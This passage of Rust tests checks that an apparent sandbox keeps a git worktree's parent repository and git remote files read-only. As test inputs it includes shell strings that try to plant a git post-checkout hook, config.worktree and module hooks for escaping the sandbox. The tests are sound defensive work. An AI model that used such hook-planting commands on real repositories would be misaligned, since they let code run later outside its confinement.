        assert_eq!(now, "#!/bin/sh\necho black\n", "{}", s.label());
        let allowed = run_in_home(&s, wide.to_str().unwrap(), script, false);
        assert!(
            stdout(&allowed).contains("WROTE-TARGET"),
            "{}",
            text(&allowed)
        );
        assert!(
            std::fs::read_to_string(&link).unwrap().contains("EVIL"),
            "{}",
            s.label()
        );
    }
}

/// A workspace that is a linked worktree (`git worktree add`) keeps the repository it belongs
/// to, outside the workspace, read-only: its objects, refs and hooks and the worktree's git
/// directory (whose `modules/` and `config.worktree` git would obey later, outside the
/// sandbox). A commit there fails, and nothing of the repository changes; the same commit made
/// outside the sandbox works.
#[test]
fn a_linked_worktree_keeps_its_repository_read_only() {
    for u in users() {
        let s = Scratch::new(u);
        let main = s.root.path().join("main");
        std::fs::remove_dir_all(&s.ws).unwrap();
        let git = |dir: &std::path::Path, args: &[&str]| {
            let o = std::process::Command::new("git")
                .args(["-c", "user.name=t", "-c", "user.email=t@e"])
                .args(args)
                .current_dir(dir)
                .output()
                .unwrap();
            assert!(o.status.success(), "git {args:?}: {}", text(&o));
        };
        std::fs::create_dir_all(&main).unwrap();
        git(&main, &["init", "-q"]);
        git(&main, &["commit", "-q", "--allow-empty", "-m", "init"]);
        git(&main, &["worktree", "add", "-q", s.ws.to_str().unwrap()]);
        std::fs::write(s.ws.join("f.txt"), "hi\n").unwrap();
        s.chown_all();
        if let Some(uid) = u {
            let owner = format!("{uid}:{uid}");
            let o = std::process::Command::new("chown")
                .args(["-R", &owner])
                .arg(&main)
                .output()
                .unwrap();
            assert!(o.status.success(), "{}", text(&o));
        }
        let name = s.ws.file_name().unwrap().to_string_lossy().into_owned();
        let gitdir = main.join(".git/worktrees").join(&name);
        let refs = main.join(".git/refs/heads").join(&name);
        let before = std::fs::read_to_string(&refs).unwrap();
        let commit = "git add f.txt && git -c user.name=t -c user.email=t@e commit -q -m add && echo COMMITTED";
        let ran = s.run("workspace", commit);
        assert!(
            !stdout(&ran).contains("COMMITTED"),
            "{}: {}",
            s.label(),
            text(&ran)
        );
        let planted = format!(
            "mkdir -p '{g}/modules/x/hooks' && echo PLANTED; echo x > '{g}/config.worktree' && echo PLANTED; echo x > '{m}/.git/hooks/post-checkout' && echo PLANTED",
            g = gitdir.display(),
            m = main.display()
        );
        let tried = s.run("workspace", &planted);
        assert!(
            !stdout(&tried).contains("PLANTED"),
            "{}: {}",
            s.label(),
            text(&tried)
        );
        assert_eq!(
            std::fs::read_to_string(&refs).unwrap(),
            before,
            "{}",
            s.label()
        );
        assert!(!gitdir.join("modules").exists() && !gitdir.join("config.worktree").exists());
        // Outside the sandbox the same commit works.
        let outside = s.outside(commit);
        assert!(
            stdout(&outside).contains("COMMITTED"),
            "{}: {}",
            s.label(),
            text(&outside)
        );
    }
}

/// The remote files git reads for names its config does not define (`.git/remotes/NAME`,
/// `.git/branches/NAME`): a push to one that leads to a repository in the workspace runs that
/// repository's receive hooks. One that exists stays read-only, new ones are moved to
/// quarantine after the run, and the empty `branches/` a `git init` makes stays. Paired: under
/// a wider profile the same script writes them all and they stay.
#[test]
fn git_remote_files_stay_read_only_and_new_ones_go_to_quarantine() {
    const OLD: &str = "URL: https://example.org/r.git\n";
    let plant = "mkdir -p .git/branches; printf 'URL: a/e.git\\n' > .git/remotes/origin; \
                 echo nm/e.git > .git/branches/nm; echo x >> .git/remotes/old; \
                 git init -q fresh; echo done";
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        std::fs::create_dir_all(s.ws.join(".git/remotes")).unwrap();
        std::fs::write(s.ws.join(".git/remotes/old"), OLD).unwrap();
        s.chown_all();
        let o = s.run("workspace", plant);
        let why = format!("{}: {}", s.label(), text(&o));
        assert!(stdout(&o).contains("done"), "{why}");
        assert!(!s.ws.join(".git/remotes/origin").exists(), "{why}");
        assert!(!s.ws.join(".git/branches/nm").exists(), "{why}");
        let old = std::fs::read_to_string(s.ws.join(".git/remotes/old")).unwrap();
        assert_eq!(old, OLD, "{why}");
        assert!(text(&o).contains("remotes/origin"), "{why}");
        if s.ws.join("fresh/.git/branches").exists() {
            assert!(!text(&o).contains("fresh/.git/branches"), "{why}");
        }
        assert!(s.ws.join("fresh/.git/config").exists(), "{why}");
        let allowed = s.run(wide.to_str().unwrap(), plant);
        let why = format!("{}: {}", s.label(), text(&allowed));
        assert!(s.ws.join(".git/remotes/origin").exists(), "{why}");
        assert!(s.ws.join(".git/branches/nm").exists(), "{why}");
        let old = std::fs::read_to_string(s.ws.join(".git/remotes/old")).unwrap();
        assert_eq!(old, format!("{OLD}x\n"), "{why}");
    }
}
